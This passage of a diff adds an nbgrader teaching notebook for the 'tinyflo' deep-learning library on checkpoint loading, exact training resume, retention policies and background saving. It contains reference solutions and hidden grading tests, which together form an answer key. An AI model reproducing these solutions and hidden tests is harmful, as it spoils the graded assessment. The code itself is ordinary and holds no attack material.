+#    `structural_hash(model)` (a file without one: nothing skipped and
+#    nothing missing). Otherwise a `CheckpointError` that lists the names
+#    only in the file and only in the model (or says the module classes
+#    differ, when the names agree) and suggests `strict=False`.
+#
+# `load_checkpoint` (given, after the grade cell) calls it, checks the
+# optimizer and scheduler the same way, and only then copies, with
+# `_assign` — which writes into the existing arrays.
+
+# %% nbgrader={"grade": false, "grade_id": "checkpoints_load_code", "locked": false, "schema_version": 3, "solution": true}
+#| export
+def _plan_model_load(model: Any, tensors: Mapping[str, np.ndarray], state: Mapping[str, Any], strict: bool,
+                     where: str) -> tuple[list[tuple[Tensor, np.ndarray]], LoadReport]:
+    """(target, values) pairs and the LoadReport of loading ``tensors`` into ``model``; nothing copied yet."""
+    ### BEGIN SOLUTION
+    own = model.state_dict()
+    ours = "model" in state
+    names = list(state["model"]["keys"]) if ours else list(tensors)
+    loaded = [k for k in own if k in names]
+    skipped = [k for k in names if k not in own]
+    missing = [k for k in own if k not in names]
+    for key in loaded:
+        if tuple(tensors[key].shape) != own[key].shape:
+            raise ShapeError(f"load_checkpoint: {key!r} has shape {tuple(tensors[key].shape)} in the file {where} "
+                             f"and {own[key].shape} in the model")
+    if strict:
+        same = state["model"]["hash"] == structural_hash(model) if ours else not skipped and not missing
+        if not same:
+            if skipped or missing:
+                detail = f"only in the file: {skipped or 'none'}; only in the model: {missing or 'none'}"
+            else:
+                detail = (f"the module classes differ: the file has {state['model']['modules']}, "
+                          f"the model {_module_tree(model)}")
+            raise CheckpointError(f"load_checkpoint: the model's structure does not match {where} ({detail}); "
+                                  "pass strict=False to load the names that match and report the rest")
+    pairs = [(own[key], tensors[key]) for key in loaded]
+    return pairs, LoadReport(tuple(loaded), tuple(skipped), tuple(missing))
+    ### END SOLUTION
+
+
+# %% [markdown]
+# The rest of saving and loading is given: `capture_state` gathers host
+# copies of the model, optimizer and scheduler (and, for a trainer, the
+# things of the next task), `save_checkpoint` writes them, `load_checkpoint`
+# reads, checks everything, then copies. `load_checkpoint(..., device="cuda:0")`
+# moves the model there once every check has passed (build a flat optimizer
+# only after that).
+
+# %%
+#| export
+def _model_state(model: Any, tensors: dict[str, np.ndarray]) -> dict[str, Any]:
+    for name, t in model.state_dict().items():
+        tensors[name] = _host(t)
+    return {"keys": list(tensors), "hash": structural_hash(model), "modules": _module_tree(model)}
+
+
+def capture_state(model: Any = None, optimizer: Any = None, scheduler: Any = None, trainer: Any = None,
+                  extra: Mapping[str, Any] | None = None, rng: bool | None = None) -> CheckpointState:
+    """Host copies of everything to save: model, optimizer, scheduler; with a trainer, the full training state."""
+    if trainer is not None:
+        model = trainer.model if model is None else model
+        optimizer = trainer.optimizer if optimizer is None else optimizer
+        scheduler = trainer.scheduler if scheduler is None else scheduler
+    tensors: dict[str, np.ndarray] = {}
+    state: dict[str, Any] = {"format": FORMAT_VERSION}
+    if model is not None:
+        state["model"] = _model_state(model, tensors)
+    for key, part in (("optimizer", optimizer), ("scheduler", scheduler)):
+        if part is not None and hasattr(part, "state_dict"):
+            state[key] = _encode(part.state_dict(), key, tensors)
+    if trainer is not None:
+        state.update(_training_state(trainer, tensors))
+    if rng or (rng is None and trainer is not None):
+        state["rng"] = _encode(_rng_state(), "rng", tensors)
+    if extra:
+        state["extra"] = _encode(dict(extra), "extra", tensors)
+    return CheckpointState(tensors, state)
+
+
+def save_checkpoint(path: str | os.PathLike, model: Any = None, optimizer: Any = None, scheduler: Any = None, *,
+                    trainer: Any = None, extra: Mapping[str, Any] | None = None, rng: bool | None = None) -> Path:
+    """Save a model (and optimizer, scheduler; or a Trainer's complete state) to one safetensors file."""
+    if model is None and trainer is None:
+        raise ValueError("save_checkpoint: pass a model (or trainer=) to save")
+    return write_state(path, capture_state(model, optimizer, scheduler, trainer, extra, rng))
+
+
+def read_checkpoint(path: str | os.PathLike, verify: bool = True) -> tuple[dict[str, np.ndarray], dict[str, Any], bool]:
+    """``(tensors, state, verified)`` of a checkpoint file (ours or any plain safetensors file)."""
+    path = Path(path)
+    if not path.is_file():
+        raise FileNotFoundError(f"load_checkpoint: path {str(path)!r} is not a file")
+    tensors, metadata = load_file(path, verify)
+    version = metadata.get(FORMAT_KEY)
+    if version is not None and version != FORMAT_VERSION:
+        raise CheckpointError(f"{path}: format version {version!r}; this tinyflo reads version {FORMAT_VERSION!r}")
+    try:
+        state = json.loads(metadata.get(STATE_KEY, "{}"))
+    except json.JSONDecodeError as err:
+        raise CheckpointError(f"{path}: the {STATE_KEY} metadata is not valid JSON ({err})") from None
+    return tensors, state, verify and CHECKSUM_KEY in metadata
+
+
+def _check_optimizer(optimizer: Any, saved: Mapping[str, Any], where: str) -> None:
+    """The checks optimizer.load_state_dict makes, done before anything is copied."""
+    groups = saved["param_groups"]
+    name = type(optimizer).__name__
+    if len(groups) != len(optimizer.param_groups) or any(
+            len(a["params"]) != len(b["params"]) for a, b in zip(groups, optimizer.param_groups)):
+        raise CheckpointError(f"load_checkpoint: the optimizer in {where} has groups of "
+                              f"{[len(g['params']) for g in groups]} parameters; this {name} has "
+                              f"{[len(g['params']) for g in optimizer.param_groups]}")
+    params = [p for g in optimizer.param_groups for p in g["params"]]
+    for number, entry in saved["state"].items():
+        p = params[int(number)]
+        for key, value in entry.items():
+            if _is_array(value) and tuple(value.shape) != p.shape:
+                raise ShapeError(f"load_checkpoint: optimizer state {key!r} of parameter {number} has shape "
+                                 f"{tuple(value.shape)} in {where}; the parameter has shape {p.shape}")
+
+
+def load_checkpoint(path: str | os.PathLike, model: Any = None, optimizer: Any = None, scheduler: Any = None,
+                    strict: bool = True, device: Any = None, *, trainer: Any = None, train_loader: Any = None,
+                    verify: bool = True) -> LoadReport:
+    """Load a checkpoint into a model (and optimizer, scheduler; or a Trainer); checked first, then copied."""
+    if trainer is not None:
+        model = trainer.model if model is None else model
+        optimizer = trainer.optimizer if optimizer is None else optimizer
+        scheduler = trainer.scheduler if scheduler is None else scheduler
+    if model is None:
+        raise ValueError("load_checkpoint: pass a model (or trainer=) to load into")
+    where = str(path)
+    tensors, state, verified = read_checkpoint(path, verify)
+    if trainer is not None and "trainer" not in state:
+        raise CheckpointError(f"load_checkpoint: trainer= was given but {where} holds no training state "
+                              "(it was saved from a model alone)")
+    pairs, report = _plan_model_load(model, tensors, state, strict, where)
+    parts = {}
+    for key, part in (("optimizer", optimizer), ("scheduler", scheduler)):
+        if part is None or not hasattr(part, "load_state_dict"):
+            continue
+        if key not in state:
+            raise CheckpointError(f"load_checkpoint: {key}= was given but {where} holds no {key} state")
+        parts[key] = _decode(state[key], tensors, where)
+    if "optimizer" in parts:
+        _check_optimizer(optimizer, parts["optimizer"], where)
+    if "scheduler" in parts and parts["scheduler"].get("type") != type(scheduler).__name__:
+        raise CheckpointError(f"load_checkpoint: {where} holds the state of a {parts['scheduler'].get('type')}; "
+                              f"scheduler= is a {type(scheduler).__name__}")
+    if device is not None:  # only now: a file that fails a check leaves the model where it was
+        model.to(as_device(device))
+        pairs, _ = _plan_model_load(model, tensors, state, strict, where)  # the moved arrays
+    with no_grad():
+        for target, values in pairs:
+            _assign(target, values)
+    if "optimizer" in parts:
+        optimizer.load_state_dict(parts["optimizer"])
+    if "scheduler" in parts:
+        scheduler.load_state_dict(parts["scheduler"])
+    if trainer is not None:
+        _restore_training_state(trainer, _decode(state, tensors, where), train_loader)
+    return dataclasses.replace(report, verified=verified)
+
+
+# %% nbgrader={"grade": true, "grade_id": "checkpoints_load", "locked": true, "points": 3, "schema_version": 3, "solution": false}
+def _net(seed, head=3):
+    tinyflo.manual_seed(seed)
+    return Sequential(Linear(4, 8), ReLU(), Linear(8, head))
+
+
+source = _net(0)
+path = save_checkpoint(WORK / "net.safetensors", source)
+same = _net(1)
+weight_array = same[0].weight.data
+report = load_checkpoint(path, same)
+assert isinstance(report, LoadReport) and report.loaded == ("0.weight", "0.bias", "2.weight", "2.bias")
+assert report.skipped == () and report.missing == () and report.verified
+assert all(np.array_equal(a.numpy(), b.numpy()) for a, b in zip(source.parameters(), same.parameters()))
+assert same[0].weight.data is weight_array, "copied into the parameter's own array"
+other = _net(2, head=5)
+try:
+    load_checkpoint(path, other, strict=False)
+    raise AssertionError("a shape mismatch must raise")
+except ShapeError as err:
+    assert "2.weight" in str(err) and "(3, 8)" in str(err) and "(5, 8)" in str(err)
+assert not np.array_equal(other[0].weight.numpy(), source[0].weight.numpy()), "nothing copied on an error"
+### BEGIN HIDDEN TESTS
+bigger = Sequential(Linear(4, 8), ReLU(), Linear(8, 3), ReLU(), Linear(3, 2))
+try:
+    load_checkpoint(path, bigger)
+    raise AssertionError("a different structure must raise in strict mode")
+except CheckpointError as err:
+    assert "4.weight" in str(err) and "strict=False" in str(err)
+partial = load_checkpoint(path, bigger, strict=False)
+assert partial.loaded == ("0.weight", "0.bias", "2.weight", "2.bias")
+assert partial.missing == ("4.weight", "4.bias") and partial.skipped == ()
+assert np.array_equal(bigger[2].weight.numpy(), source[2].weight.numpy())
+smaller = Sequential(Linear(4, 8))
+cut = load_checkpoint(path, smaller, strict=False)
+assert cut.loaded == ("0.weight", "0.bias") and cut.skipped == ("2.weight", "2.bias") and cut.missing == ()
+cut.freeze_loaded(smaller)
+assert not smaller[0].weight.requires_grad
+swapped = Sequential(Linear(4, 8), Dropout(0.1), Linear(8, 3))
+try:
+    load_checkpoint(path, swapped)
+    raise AssertionError("the same names with other module classes is another structure")
+except CheckpointError as err:
+    assert "class" in str(err)
+half = _net(3).to(dtype="float16")
+load_checkpoint(path, half)
+assert half[0].weight.dtype == np.float16, "the dtype is not part of the structure; values are converted"
+plain = WORK / "plain.safetensors"
+with open(plain, "wb") as f:
+    write_safetensors(f, {"0.weight": np.ones((8, 4), np.float32), "0.bias": np.zeros(8, np.float32)}, checksum=False)
+foreign_report = load_checkpoint(plain, Sequential(Linear(4, 8)))
+assert foreign_report.loaded == ("0.weight", "0.bias") and not foreign_report.verified
+### END HIDDEN TESTS
+
+# %% [markdown]
+# ## Exact resume: the complete training state
+#
+# "Resume" is exact when training N steps, saving, loading into a *fresh
+# process* and training M more gives the very same weights, bit for bit, as
+# N + M steps without a stop. Everything that influences a future step must
+# be in the file:
+#
+# * the parameters and buffers (batch norm's running statistics);
+# * the optimizer's state (Adam's two moments and step count) and its
+#   hyper-parameters — for Adam the checkpoint is **3× the model**;
+# * the schedule (its settings) and the counters it is driven by
+#   (`trainer.step`, `trainer.epoch`) plus the history;
+# * **every random generator**: tinyflo's (dropout, `randn`), NumPy's global
+#   one (user code may draw from it), CuPy's on a GPU, and the data loader's
+#   shuffling generator with its position in the epoch;
+# * a `GradScaler`'s scale and counters (module 11) when the trainer has one
+#   (`trainer.scaler`).
+#
+# Generators export their state: NumPy's `bit_generator.state` is a small
+# dict of integers (JSON), the legacy global one is 624 words and a
+# position. CuPy's cuRAND state cannot be exported; at save time we draw a
+# fresh seed from it, *reseed it* with that seed and store the seed — the
+# run that saved and the run that resumes then continue from the same
+# state. (So saving on a GPU changes the random stream of the saving run;
+# it stays reproducible, just not equal to a run that never saved.)
+#
+# **Which loader?** The Trainer remembers the last loader `train_epoch` got
+# (`trainer.train_loader`). When a checkpoint is loaded before the loader
+# is known (a fresh process builds the trainer, loads, then calls `fit`),
+# the loader's state waits in the trainer and is applied to the next loader
+# `train_epoch` receives; or pass `train_loader=` to `load_checkpoint`.
+# Checkpoints are taken between epochs (the `ModelCheckpoint` callback
+# below) or wherever your own loop calls `save_checkpoint`: the loader's
+# state records the batch it reached, so a loop of your own can resume
+# mid-epoch too.
+#
+# ### Task `checkpoints_resume`
+#
+# * `_rng_state()` returns `{"tinyflo": ..., "numpy": ...}` and, when CuPy
+#   has a GPU (`_cupy()` is not None), `"cupy": seed` as described above.
+#   `"tinyflo"` is `_Generators.numpy.bit_generator.state`, `"numpy"` is
+#   `np.random.get_state(legacy=False)`.
+# * `_restore_rng(state)` puts them back: a new
+#   `np.random.Generator(np.random.PCG64())` given that state becomes
+#   `_Generators.numpy`; `np.random.set_state(...)`; `cupy.random.seed(...)`.
+# * `_training_state(trainer, tensors)` returns a dict with `"trainer"`
+#   (`trainer.state_dict()`), `"loader"` (the state of
+#   `trainer.train_loader` when it has one, else `None`) and `"scaler"`
+#   (the state_dict of `getattr(trainer, "scaler", None)` when there is
+#   one, else `None`) — encoded with `_encode(value, key, tensors)`.
+# * `_restore_training_state(trainer, state, train_loader)` is its inverse:
+#   the trainer's counters and history, the scaler's state (an error when
+#   the file has one and the trainer none), the random generators, and the
+#   loader's state: into `train_loader` if given, else into
+#   `trainer.train_loader` if it has one, else kept in
+#   `trainer.pending_loader_state` for the next `train_epoch`.
+
+# %% nbgrader={"grade": false, "grade_id": "checkpoints_resume_code", "locked": false, "schema_version": 3, "solution": true}
+#| export
+def _rng_state() -> dict[str, Any]:
+    """The state of every generator training draws from (CuPy's as a fresh seed it is reseeded with)."""
+    ### BEGIN SOLUTION
+    state: dict[str, Any] = {"tinyflo": _Generators.numpy.bit_generator.state,
+                             "numpy": np.random.get_state(legacy=False)}
+    cupy = _cupy()
+    if cupy is not None:
+        seed = int(cupy.random.randint(0, 2**31 - 1))
+        cupy.random.seed(seed)
+        state["cupy"] = seed
+    return state
+    ### END SOLUTION
+
+
+def _restore_rng(state: Mapping[str, Any]) -> None:
+    """Put back what ``_rng_state`` returned."""
+    ### BEGIN SOLUTION
+    generator = np.random.Generator(np.random.PCG64())
+    generator.bit_generator.state = state["tinyflo"]
+    _Generators.numpy = generator
+    legacy = dict(state["numpy"])
+    legacy["state"] = {**legacy["state"], "key": np.asarray(legacy["state"]["key"], dtype=np.uint32)}
+    np.random.set_state(legacy)
+    cupy = _cupy()
+    if cupy is not None and state.get("cupy") is not None:
+        cupy.random.seed(int(state["cupy"]))
+    ### END SOLUTION
+
+
+def _training_state(trainer: Any, tensors: dict[str, np.ndarray]) -> dict[str, Any]:
+    """The trainer's counters and history, its loader's position and its GradScaler's state, as JSON data."""
+    ### BEGIN SOLUTION
+    loader = getattr(trainer, "train_loader", None)
+    scaler = getattr(trainer, "scaler", None)
+    return {
+        "trainer": _encode(trainer.state_dict(), "trainer", tensors),
+        "loader": _encode(loader.state_dict(), "loader", tensors) if hasattr(loader, "state_dict") else None,
+        "scaler": _encode(scaler.state_dict(), "scaler", tensors) if scaler is not None else None,
+    }
+    ### END SOLUTION
+
+
+def _restore_training_state(trainer: Any, state: Mapping[str, Any], train_loader: Any = None) -> None:
+    """Put back what ``_training_state`` and ``_rng_state`` saved."""
+    ### BEGIN SOLUTION
+    scaler = getattr(trainer, "scaler", None)
+    if state.get("scaler") is not None:
+        if scaler is None:
+            raise CheckpointError("load_checkpoint: the checkpoint holds a GradScaler's state but the trainer "
+                                  "has no scaler; give it one (trainer.scaler = GradScaler()) before loading")
+        scaler.load_state_dict(state["scaler"])
+    trainer.load_state_dict(state["trainer"])
+    if state.get("rng") is not None:
+        _restore_rng(state["rng"])
+    loader_state = state.get("loader")
+    if loader_state is not None:
+        loader = train_loader if train_loader is not None else getattr(trainer, "train_loader", None)
+        if loader is not None:
+            loader.load_state_dict(loader_state)
+        else:
+            trainer.pending_loader_state = loader_state
+    ### END SOLUTION
+
+
+# %% [markdown]
+# The test: two epochs (shuffling, dropout, a warm-up + cosine schedule per
+# step, AdamW), save, then a *fresh* model, optimizer, loader and trainer —
+# after the global seed was changed on purpose — load and train one more
+# epoch. The result must equal three epochs without a stop, exactly.
+# (`trainer.save_checkpoint(path)` and `trainer.load_checkpoint(path)` call
+# these same functions from the package; here we call the notebook's.)
+
+# %% nbgrader={"grade": true, "grade_id": "checkpoints_resume", "locked": true, "points": 3, "schema_version": 3, "solution": false}
+_rs = np.random.default_rng(0)
+RX, RY = _rs.standard_normal((48, 6)).astype(np.float32), _rs.integers(0, 3, 48)
+
+
+def _run(seed=0):
+    tinyflo.manual_seed(seed)
+    model = Sequential(Linear(6, 16), ReLU(), Dropout(0.3), Linear(16, 3))
+    opt = AdamW(model.parameters(), lr=1e-2)
+    loader = DataLoader(TensorDataset(RX, RY), batch_size=10, shuffle=True, seed=seed + 1)
+    sched = Warmup(CosineAnnealing(1e-2, 12), warmup_steps=3)
+    trainer = Trainer(model, opt, cross_entropy, scheduler=sched, scheduler_interval="step", verbosity="quiet")
+    return trainer, loader
+
+
+straight, straight_loader = _run()
+straight.fit(straight_loader, epochs=3)
+first, first_loader = _run()
+first.fit(first_loader, epochs=2)
+resume_path = save_checkpoint(WORK / "resume.safetensors", trainer=first)
+tinyflo.manual_seed(1234)
+np.random.seed(99)
+second, second_loader = _run(seed=7)
+load_checkpoint(resume_path, trainer=second, train_loader=second_loader)
+assert second.step == first.step and second.epoch == 2 and len(second.history["train_loss"]) == 2
+second.fit(second_loader, epochs=1)
+for a, b in zip(straight.model.parameters(), second.model.parameters()):
+    assert np.array_equal(a.numpy(), b.numpy()), "resume must be exact, bit for bit"
+assert straight.history["train_loss"] == second.history["train_loss"]
+### BEGIN HIDDEN TESTS
+sa, sb = straight.optimizer.state_dict()["state"], second.optimizer.state_dict()["state"]
+assert all(np.array_equal(sa[i][k], sb[i][k]) for i in sa for k in sa[i]), "the optimizer state too"
+third, third_loader = _run(seed=7)
+load_checkpoint(resume_path, trainer=third)
+assert third.pending_loader_state is not None, "no loader known yet: the state waits for the next train_epoch"
+third.pending_loader_state = None
+_, loader_only = _run(seed=9)
+third.train_loader = loader_only
+load_checkpoint(resume_path, trainer=third)
+assert loader_only.rng.state_dict() == first_loader.rng.state_dict(), "the trainer's own loader gets the state"
+
+
+class _Scaler:
+    def __init__(self, scale=65536.0):
+        self.scale, self.growth = scale, np.array([1, 2], np.int32)
+
+    def state_dict(self):
+        return {"scale": self.scale, "growth_tracker": self.growth}
+
+    def load_state_dict(self, state):
+        self.scale, self.growth = state["scale"], np.asarray(state["growth_tracker"])
+
+
+first.scaler = _Scaler(1024.0)
+scaled_path = save_checkpoint(WORK / "scaled.safetensors", trainer=first)
+fourth, _ = _run(seed=3)
+fourth.scaler = _Scaler()
+load_checkpoint(scaled_path, trainer=fourth)
+assert fourth.scaler.scale == 1024.0 and fourth.scaler.growth.tolist() == [1, 2]
+fifth, _ = _run(seed=3)
+try:
+    load_checkpoint(scaled_path, trainer=fifth)
+    raise AssertionError("a saved GradScaler state needs a scaler to go into")
+except CheckpointError as err:
+    assert "scaler" in str(err)
+tinyflo.manual_seed(5)
+np.random.seed(5)
+saved_rng = _rng_state()
+expected = (tinyflo.randn(3).numpy(), np.random.rand(2))
+tinyflo.manual_seed(6)
+np.random.seed(6)
+rng_tensors = {}
+_restore_rng(_decode(json.loads(json.dumps(_encode(saved_rng, "rng", rng_tensors))), rng_tensors, "test"))
+assert np.array_equal(tinyflo.randn(3).numpy(), expected[0]) and np.array_equal(np.random.rand(2), expected[1])
+### END HIDDEN TESTS
+
+# %% [markdown]
+# ## How big is a checkpoint?
+#
+# The 784-512-512-10 MLP of the benchmarks, in float32, with Adam:
+
+# %%
+_mlp = Sequential(Linear(784, 512), ReLU(), Linear(512, 512), ReLU(), Linear(512, 10))
+_params = _mlp.num_parameters()
+print(f"{_params:,} parameters = {_params * 4 / 2**20:.2f} MiB; with Adam's two moments "
+      f"{3 * _params * 4 / 2**20:.2f} MiB (3x): the moments are as large as the weights, each")
+
+# %% [markdown]
+# A 7-billion-parameter model in bf16 is 14 GB of weights; with Adam's two
+# fp32 moments and fp32 master weights it is 14 + 3 × 28 = 98 GB per
+# checkpoint — which is why large runs keep only a few of them, and why the
+# save must not stop training while it writes.
+#
+# ## Retention and saving in the background
+#
+# A run that saves every epoch fills the disk. `CheckpointManager(directory,
+# keep_last=3, keep_best=None, monitor="val_loss", mode="min",
+# keep_every=None, background=False)` names the files `ckpt-<step>.safetensors`,
+# records every file it keeps in a `manifest.json` (written atomically, like
+# everything else) and deletes a file only *after* the new one is safely in
+# place, keeping
+#
+# * the last `keep_last` checkpoints;
+# * the `keep_best` with the best monitored metric (`min` or `max`; a
+#   checkpoint without the metric never counts as best);
+# * every checkpoint whose step is a multiple of `keep_every`.
+#
+# **In the background.** Writing 100 MB takes a noticeable fraction of a
+# second; the training loop need not wait. The state is *copied to host
+# memory first*, synchronously — the next optimizer step would otherwise
+# change the weights while they are being written — and a worker thread
+# writes the copy. At most one write is pending: a second `save()` waits
+# for the first. An error in the worker must not vanish: it is raised again
+# by the next `save()`, `wait()` or `close()`.
+#
+# ### Task `checkpoints_retention`
+#
+# * `retained(entries, keep_last, keep_best, mode, keep_every)` takes the
+#   manifest's entries (dicts with `"step"` and `"metric"`, oldest first)
+#   and returns the list of entries to keep, in their order.
+# * `BackgroundSaver.submit(fn)` waits for the pending job (which raises
+#   its error, if it had one), then runs `fn` on a new worker thread that
+#   stores any exception in `self._error`; `wait()` joins the thread and
+#   raises a stored error once (and forgets it).
+
+# %% nbgrader={"grade": false, "grade_id": "checkpoints_retention_code", "locked": false, "schema_version": 3, "solution": true}
+#| export
+def retained(entries: list[dict[str, Any]], keep_last: int | None = 3, keep_best: int | None = None,
+             mode: str = "min", keep_every: int | None = None) -> list[dict[str, Any]]:
+    """The entries (oldest first) a retention policy keeps: the last, the best, and every k-th step."""
+    ### BEGIN SOLUTION
+    keep = set()
+    if keep_last:
+        keep.update(range(max(len(entries) - keep_last, 0), len(entries)))
+    if keep_best:
+        scored = [i for i, e in enumerate(entries) if e.get("metric") is not None and not math.isnan(e["metric"])]
+        scored.sort(key=lambda i: entries[i]["metric"] if mode == "min" else -entries[i]["metric"])
+        keep.update(scored[:keep_best])
+    if keep_every:
+        keep.update(i for i, e in enumerate(entries) if e["step"] % keep_every == 0)
+    return [e for i, e in enumerate(entries) if i in keep]
+    ### END SOLUTION
+
+
+class BackgroundSaver:
+    """Runs one save at a time on a worker thread; a failure is raised by the next submit(), wait() or close()."""
+
+    def __init__(self) -> None:
+        self._thread: threading.Thread | None = None
+        self._error: BaseException | None = None
+
+    def _run(self, fn: Callable[[], Any]) -> None:
+        try:
+            fn()
+        except BaseException as err:  # kept for the caller's thread: an error must not vanish with the worker
+            self._error = err
+
+    def submit(self, fn: Callable[[], Any]) -> None:
+        """Run ``fn`` on a worker thread, after the pending one (whose error, if any, is raised here)."""
+        ### BEGIN SOLUTION
+        self.wait()
+        self._thread = threading.Thread(target=self._run, args=(fn,), name="tinyflo-checkpoint")
+        self._thread.start()
+        ### END SOLUTION
+
+    def wait(self) -> None:
+        """Wait for the pending job; raise its error, once."""
+        ### BEGIN SOLUTION
+        if self._thread is not None:
+            self._thread.join()
+            self._thread = None
+        error, self._error = self._error, None
+        if error is not None:
+            raise error
+        ### END SOLUTION
+
+    def close(self) -> None:
+        """Wait for the pending job (raising its error)."""
+        self.wait()
+
+    def __enter__(self) -> BackgroundSaver:
+        return self
+
+    def __exit__(self, *exc: Any) -> None:
+        self.close()
+
+
+# %%
+#| export
+class CheckpointManager:
+    """Saves checkpoints into a folder and keeps the last N, the best by a metric, and every k-th."""
+
+    def __init__(self, directory: str | os.PathLike, keep_last: int | None = 3, keep_best: int | None = None,
+                 monitor: str = "val_loss", mode: str = "min", keep_every: int | None = None,
+                 background: bool = False, prefix: str = "ckpt") -> None:
+        for name, value in (("keep_last", keep_last), ("keep_best", keep_best), ("keep_every", keep_every)):
+            if value is not None and (isinstance(value, bool) or not isinstance(value, int) or value < 1):
+                raise ValueError(f"CheckpointManager: {name} must be a positive integer or None; got {value!r}")
+        if not (keep_last or keep_best or keep_every):
+            raise ValueError("CheckpointManager: keep_last, keep_best and keep_every are all None; nothing would be kept")
+        if mode not in ("min", "max"):
+            raise ValueError(f"CheckpointManager: mode must be 'min' or 'max'; got {mode!r}")
+        self.directory = Path(directory)
+        self.directory.mkdir(parents=True, exist_ok=True)
+        self.keep_last, self.keep_best, self.keep_every = keep_last, keep_best, keep_every
+        self.monitor, self.mode, self.prefix = monitor, mode, prefix
+        self.manifest_path = self.directory / "manifest.json"
+        self._lock = threading.Lock()
+        self._saver = BackgroundSaver() if background else None
+        for stray in self.directory.glob(f".*{TEMP_MARK}*"):  # left by a process killed mid-save
+            stray.unlink(missing_ok=True)
+        self.entries: list[dict[str, Any]] = []
+        if self.manifest_path.exists():
+            manifest = json.loads(self.manifest_path.read_text())
+            self.entries = [e for e in manifest["checkpoints"] if (self.directory / e["file"]).exists()]
+
+    def __repr__(self) -> str:
+        return (f"CheckpointManager({str(self.directory)!r}, {len(self.entries)} kept, keep_last={self.keep_last}, "
+                f"keep_best={self.keep_best}, keep_every={self.keep_every})")
+
+    def path_for(self, step: int) -> Path:
+        """The file name of the checkpoint at ``step``."""
+        return self.directory / f"{self.prefix}-{step:08d}.safetensors"
+
+    def save(self, source: Any, step: int | None = None, metric: float | None = None) -> Path:
+        """Save a Trainer (or a CheckpointState) as the checkpoint of ``step``; apply the retention policy."""
+        if isinstance(source, CheckpointState):
+            snapshot = source
+            if step is None:
+                raise ValueError("CheckpointManager.save: step= is needed with a CheckpointState")
+        else:
+            snapshot = capture_state(trainer=source)  # host copies, now: training may go on meanwhile
+            step = source.step if step is None else step
+            if metric is None and source.history.get(self.monitor):
+                metric = source.history[self.monitor][-1]
+        step = int(step)
+        path = self.path_for(step)
+        metric = None if metric is None or math.isnan(float(metric)) else float(metric)
+        job = lambda: self._commit(write_state(path, snapshot), step, metric)  # noqa: E731
+        if self._saver is None:
+            job()
+        else:
+            self._saver.submit(job)
+        return path
+
+    def _commit(self, path: Path, step: int, metric: float | None) -> None:
+        """Record the new file in the manifest, then delete the files the policy no longer keeps."""
+        with self._lock:
+            entries = [e for e in self.entries if e["file"] != path.name]
+            entries.append({"file": path.name, "step": step, "metric": metric})
+            kept = retained(entries, self.keep_last, self.keep_best, self.mode, self.keep_every)
+            manifest = {"monitor": self.monitor, "mode": self.mode, "checkpoints": kept}
+            atomic_write(self.manifest_path, lambda f: f.write(json.dumps(manifest, indent=1).encode()))
+            self.entries = kept
+            for e in entries:
+                if e not in kept:
+                    (self.directory / e["file"]).unlink(missing_ok=True)
+
+    def latest(self) -> Path | None:
+        """The newest checkpoint kept (after any pending background save)."""
+        self.wait()
+        return self.directory / self.entries[-1]["file"] if self.entries else None
+
+    def best(self) -> Path | None:
+        """The kept checkpoint with the best metric (None when none has one)."""
+        self.wait()
+        scored = [e for e in self.entries if e.get("metric") is not None]
+        if not scored:
+            return None
+        pick = min if self.mode == "min" else max
+        return self.directory / pick(scored, key=lambda e: e["metric"])["file"]
+
+    def wait(self) -> None:
+        """Wait for a pending background save; raise its error if it failed."""
+        if self._saver is not None:
+            self._saver.wait()
+
+    def close(self) -> None:
+        """Finish the pending save (raising its error)."""
+        self.wait()
+
+    def __enter__(self) -> CheckpointManager:
+        return self
+
+    def __exit__(self, *exc: Any) -> None:
+        self.close()
+
+
+class ModelCheckpoint(Callback):
+    """Save the trainer through a CheckpointManager after every ``every``-th epoch."""
+
+    def __init__(self, manager: CheckpointManager, every: int = 1) -> None:
+        if not isinstance(manager, CheckpointManager):
+            raise TypeError(f"ModelCheckpoint: manager must be a CheckpointManager; got {type(manager).__name__}")
+        if isinstance(every, bool) or not isinstance(every, int) or every < 1:
+            raise ValueError(f"ModelCheckpoint: every must be a positive integer; got {every!r}")
+        self.manager, self.every = manager, every
+
+    def on_epoch_end(self, trainer: Any) -> None:
+        if trainer.epoch % self.every == 0:
+            self.manager.save(trainer)
+
+    def on_train_end(self, trainer: Any) -> None:
+        self.manager.wait()
+
+
+# %% nbgrader={"grade": true, "grade_id": "checkpoints_retention", "locked": true, "points": 3, "schema_version": 3, "solution": false}
+def _entries(metrics):
+    return [{"step": s, "metric": m} for s, m in zip(range(1, len(metrics) + 1), metrics)]
+
+
+history = _entries([5.0, 1.0, 4.0, 3.0, 6.0, 7.0])
+assert [e["step"] for e in retained(history, keep_last=2)] == [5, 6]
+assert [e["step"] for e in retained(history, keep_last=1, keep_best=2)] == [2, 4, 6]
+assert [e["step"] for e in retained(history, keep_last=1, keep_best=1, mode="max")] == [6]
+assert [e["step"] for e in retained(history, keep_last=1, keep_every=3)] == [3, 6]
+trainer, loader = _run()
+with CheckpointManager(WORK / "runs", keep_last=2, monitor="train_loss", keep_best=1, background=True) as manager:
+    trainer.fit(loader, epochs=4, callbacks=[ModelCheckpoint(manager)])
+    kept = sorted(p.name for p in (WORK / "runs").glob("*.safetensors"))
+    best_step = 5 * (1 + int(np.argmin(trainer.history["train_loss"])))
+    assert manager.latest().name == "ckpt-00000020.safetensors"
+    assert manager.best().name == f"ckpt-{best_step:08d}.safetensors"
+    assert set(kept) == {"ckpt-00000015.safetensors", "ckpt-00000020.safetensors", manager.best().name}
+### BEGIN HIDDEN TESTS
+assert [e["step"] for e in retained(_entries([1.0, float("nan"), 2.0]), keep_last=1, keep_best=2)] == [1, 3], \
+    "a missing metric never counts as best"
+reopened = CheckpointManager(WORK / "runs", keep_last=2)
+assert reopened.latest() == manager.latest(), "the manifest survives"
+saver = BackgroundSaver()
+order = []
+
+
+def _slow():
+    import time
+    time.sleep(0.05)
+    order.append("first")
+
+
+def _fails():
+    raise OSError("disk full")
+
+
+saver.submit(_slow)
+saver.submit(lambda: order.append("second"))
+saver.wait()
+assert order == ["first", "second"], "at most one pending write: the second waits for the first"
+saver.submit(_fails)
+try:
+    saver.submit(lambda: None)
+    raise AssertionError("a failure in the worker must surface on the next submit")
+except OSError as err:
+    assert "disk full" in str(err)
+saver.wait()
+saver.submit(_fails)
+try:
+    saver.close()
+    raise AssertionError("... or on close()")
+except OSError:
+    pass
+### END HIDDEN TESTS
+
+# %% [markdown]
+# ## Systems corner
+#
+# * **Throughput.** A save is: copy to host (memory bandwidth), SHA-256
+#   (about 0.5–2 GB/s per core), write (the page cache: memory speed), and
+#   `fsync` (the disk: from 100 MB/s to several GB/s). `python -m
